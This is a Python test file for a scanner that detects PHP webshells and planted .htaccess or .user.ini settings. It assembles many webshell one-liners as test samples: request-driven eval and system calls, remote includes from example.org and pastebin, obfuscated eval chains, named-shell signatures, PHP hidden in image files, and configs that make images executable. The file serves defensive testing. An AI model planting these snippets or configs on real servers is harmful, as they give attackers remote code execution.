"""The rules against samples that are put together here, so that no file of this project is one itself."""

from __future__ import annotations

import base64

import pytest

from hardaudit_plugins.web.content import shell_rules
from hardaudit_plugins.web.content.shell_rules import own_rules

OPEN = "<?" + "php "
POST, GET, REQUEST, COOKIE, FILES = ("$_" + name for name in ("POST", "GET", "REQUEST", "COOKIE", "FILES"))
EVAL, ASSERT, SYSTEM, DECODE, INFLATE = "ev" + "al", "ass" + "ert", "sys" + "tem", "base64" + "_decode", "gz" + "inflate"
SHELL_EXEC, CREATE = "shell" + "_exec", "create" + "_function"
BLOB = base64.b64encode(bytes(range(256)) * 6).decode().replace("\n", "")
JPEG, PNG, GIF = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"GIF89a\x01\x00\x01\x00"
WEBP, ICO = b"RIFF\x24\x00\x00\x00WEBPVP8 ", b"\x00\x00\x01\x00\x01\x00"


def hexadecimal(text: str) -> str:
    return "".join(f"\\x{ord(character):02x}" for character in text)


SAMPLES = [
    ("php_eval_request", f"@{EVAL}({POST}['x']);"),
    ("php_eval_request", f"{EVAL}(stripslashes({REQUEST}[0]));"),
    ("php_eval_request", f"{ASSERT}({GET}['a']);"),
    ("php_eval_request", f"{ASSERT}( {DECODE}({COOKIE}['a']) );"),
    ("php_eval_request", f'{EVAL}("?>" . {POST}["page"]);'),
    ("php_eval_request", f"{EVAL}(file_get_contents('php://input'));"),
    ("php_eval_request", f"$code = {DECODE}({POST}['z0']);\n@{EVAL}($code);"),
    ("php_eval_request", f"{EVAL}(" + "$_" + "SERVER['HTTP_X_CODE']);"),
    ("php_command_request", f"{SYSTEM}({GET}['cmd']);"),
    ("php_command_request", f'echo {SHELL_EXEC}("{{{GET}["c"]}} 2>&1");'),
    ("php_command_request", f"passthru({DECODE}({POST}[1]));"),
    ("php_command_request", f"echo `{GET}[0]`;"),
    ("php_command_request", f"$cmd = ({REQUEST}['cmd']); {SYSTEM}($cmd);"),
    ("php_call_request", f"{GET}['f']({POST}['a']);"),
    ("php_call_request", f"$f = {GET}['f']; $f({POST}['a']);"),
    ("php_call_request", f"call_user_func({REQUEST}['f'], {REQUEST}['a']);"),
    ("php_call_request", f"array_filter(array(1), {GET}['f']);"),
    ("php_call_request", f"array_map('{ASSERT}', array({POST}['x']));"),
    ("php_call_request", f"$x = {CREATE}('', {POST}['x']);"),
    ("php_call_request", f"$c = {COOKIE}; (count($c) == 9) && 1;"),
    ("php_include_request", f"include({GET}['page']);"),
    ("php_include_request", "require_once 'http" + "://example.org/x.txt';"),
    ("php_preg_replace_eval", f"preg_replace('/.*/e', {POST}['x'], '');"),
    ("php_preg_replace_eval", f"preg_replace({POST}['a'], {POST}['b'], 'x');"),
    ("php_write_request", f"file_put_contents({POST}['n'], {POST}['c']);"),
    ("php_write_request", f"fwrite($f, {DECODE}({POST}['c']));"),
    ("php_write_request", "file_put_contents('x.php', file_get_contents('https://paste" + "bin.com/raw/abc'));"),
    ("php_uploader", f"move_uploaded_file({FILES}['f']['tmp_name'], {FILES}['f']['name']);"),
    ("php_uploader", f"if (@copy({FILES}['f']['tmp_name'], dirname(__FILE__) . '/' . {FILES}['f']['name'])) echo 'ok';"),
    ("php_mailer_request", f"mail({POST}['to'], {POST}['subject'], {POST}['body']);"),
    ("php_mailer_request", "$title = 'Leaf PHP" + "Mailer 2.7';"),
    ("php_eval_decoded", f"{EVAL}({DECODE}('cGhwaW5mbygpOw=='));"),
    ("php_eval_decoded", f"{EVAL}({INFLATE}(str_rot13({DECODE}($x))));"),
    ("php_eval_decoded", f'{EVAL}("?>" . gzuncompress({DECODE}($x)));'),
    ("php_eval_decoded", f"$f = {CREATE}('', {INFLATE}($x));"),
    ("php_eval_blob", f"$a = '{BLOB}'; $b = {DECODE}($a); {EVAL}($b);"),
    ("php_hidden_name", '${"' + hexadecimal("GLOBALS") + '"}["a"] = 1;'),
    ("php_hidden_name", f'$f = "{hexadecimal(EVAL)}";'),
    ("php_hidden_name", f"$f = strrev('{DECODE[::-1]}');"),
    ("php_hidden_name", "$f = str_rot13('nff" + "reg');"),
    ("php_hidden_name", "$f = 'b'.'ase'.'64_de'.'code';"),
    ("php_encoded_superglobal", f"$x = {DECODE}('{base64.b64encode(f'@{EVAL}({POST}[1]);'.encode()).decode()}');"),
    ("php_goto_maze", "".join(f'goto aB{n:03}; aB{n:03}: $x = "\\x61\\x62\\x63"; ' for n in range(30)) + f"{SYSTEM}($x);"),
    ("php_chr_chain", "$f = " + ".".join(f"chr({ord(c)})" for c in "phpinfo();;") + f"; {EVAL}($f);"),
    ("php_without_letters", '$_ = "`{{{"^"?<>/"; ${$_}[_](${$_}[__]);'),
    ("webshell_wso", "$default_action = 'Files" + "Man';"),
    ("webshell_c99", "c99" + "_sess_put($x);"),
    ("webshell_r57", "if ($r57" + "_pwd_hash == 1) {}"),
    ("webshell_b374k", "// b37" + f"4k 2.8\n{EVAL}($x);"),
    ("webshell_weevely", '$k="0123abcd";$kh="0123456789ab";$kf="0123456789ab";'),
    ("webshell_named", "$title = 'p0wny" + "@shell'; " + SHELL_EXEC + "($c);"),
    ("php_file_manager", "// https://tinyfile" + "manager.github.io\nunlink($x);"),
    ("php_from_exif", "$exif = exif_read_data('a.jpg'); preg_replace($exif['Make'], $exif['Model'], '');"),
]


@pytest.fixture(scope="module")
def rules():
    return own_rules()


@pytest.mark.parametrize(("rule", "code"), SAMPLES)
def test_a_sample_is_matched_by_its_rule(rules, rule, code):
    assert rule in rules.scan((OPEN + code).encode(), "/var/www/x.php").names


@pytest.mark.parametrize("start", [JPEG, PNG, GIF, WEBP, ICO])
@pytest.mark.parametrize("fill", [0, 6 * 2**20])
def test_php_in_an_image_is_matched_however_large_it_is_and_with_exif(rules, start, fill):
    content = start + b"Exif\x00\x00MM\x00*" + b"\x00" * fill + (OPEN + "echo 1;").encode()
    assert rules.scan(content, "/var/www/x.jpg").names == ("php_in_image",)


@pytest.mark.parametrize("start", [JPEG, PNG, GIF])
def test_an_image_without_php_is_not(rules, start):
    assert rules.scan(start + b"<?" + b"xpacket begin=''?>" + bytes(range(256)) * 100, "/var/www/x.jpg").names == ()


@pytest.mark.parametrize(
    ("rule", "name", "text"),
    [
        ("htaccess_runs_other_files", ".htaccess", "AddType application/x-httpd-php .jpg\n"),
        ("htaccess_runs_other_files", ".htaccess", "Options -Indexes\n  AddHandler php-script .png .gif\n"),
        ("htaccess_runs_other_files", ".htaccess", '<FilesMatch "\\.(jpg|png)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'),
        ("htaccess_runs_other_files", ".htaccess", '<Files ".htaccess">\nForceType application/x-httpd-php\n</Files>\n'),
        ("prepended_disguised_file", ".htaccess", "php_value auto_prepend_file /var/www/x/photo.jpg\n"),
        ("prepended_disguised_file", ".user.ini", "auto_prepend_file = photo.gif\n"),
        ("prepended_disguised_file", ".user.ini", 'auto_append_file="/tmp/x"\n'),
        ("prepended_disguised_file", ".user.ini", "allow_url_include = On\n"),
        (
            "htaccess_search_engine_redirect",
            ".htaccess",
            "RewriteCond %{HTTP_REFERER} .*google.* [NC,OR]\nRewriteCond %{HTTP_REFERER} .*bing.*\nRewriteRule ^(.*)$ http://example.org/ [R]\n",
        ),
    ],
)
def test_configuration_that_was_planted_is_matched(rules, rule, name, text):
    assert rules.scan(text.encode(), f"/var/www/{name}").names == (rule,)
    assert rules.scan(text.encode(), "/var/www/manual.txt").names == ()


# Lines that honest programs have.
CLEAN = [
    "$result = $database->exec($_POST['query']);",
    "assert(isset($_POST['x']));",
    "array_filter($_POST['ids'], 'is_numeric');",
    "$html = htmlspecialchars($_GET['q']);",
    "eval('return ' . $expression . ';');",
    "$data = base64_decode($token);",
    "move_uploaded_file($_FILES['f']['tmp_name'], $directory . '/' . bin2hex(random_bytes(16)));",
    "mail($to, $subject, $_POST['body']);",
    "preg_replace('/e/', 'x', $_POST['x']);",
    "include __DIR__ . '/pages/' . $page . '.php';",
    "$name = chr(65) . chr(66) . chr(67);",
    "file_put_contents($path, json_encode($_POST['settings']));",
    "exec('ls ' . escapeshellarg($directory), $lines);",
    "curl_exec($_POST_handle);",
    "call_user_func([$this, 'run'], $_GET['id']);",
]


@pytest.mark.parametrize("code", CLEAN)
def test_lines_of_honest_programs_are_not_matched(rules, code):
    assert rules.scan((OPEN + code).encode(), "/var/www/x.php").names == ()


@pytest.mark.parametrize(
    "text",
    [
        "AddType application/x-httpd-php .php .phtml\n",
        "AddType image/svg+xml svg svgz\n",
        '<FilesMatch "\\.(jpg|png)$">\nRequire all granted\n</FilesMatch>\n',
        "php_value auto_prepend_file /var/www/shop/firewall.php\n",
        "RewriteCond %{HTTP_REFERER} !google\\. [NC]\nRewriteRule \\.(jpg|png)$ http://shop.example/hotlink.gif [R]\n",
    ],
)
def test_ordinary_configuration_is_not_matched(rules, text):
    assert rules.scan(text.encode(), "/var/www/.htaccess").names == ()


@pytest.mark.parametrize(
    "piece", ["eval(", "$_POST[", "goto aaaa;", "chr(1).", "RewriteCond %{HTTP_REFERER} google\n", "AddType php ", "\\x65"]
)
def test_hostile_repetition_takes_bounded_time(rules, piece):
    assert not rules.scan((piece * (100_000 // len(piece))).encode(), "/var/www/.htaccess").timed_out


def test_a_file_that_takes_too_long_is_said_to(monkeypatch):
    monkeypatch.setattr(shell_rules, "_FILE_SECONDS", 1)
    match = own_rules().scan(b"$_POST[" * 2_000_000, "/var/www/x.php")
    assert (match.names, match.timed_out) == ((), True)
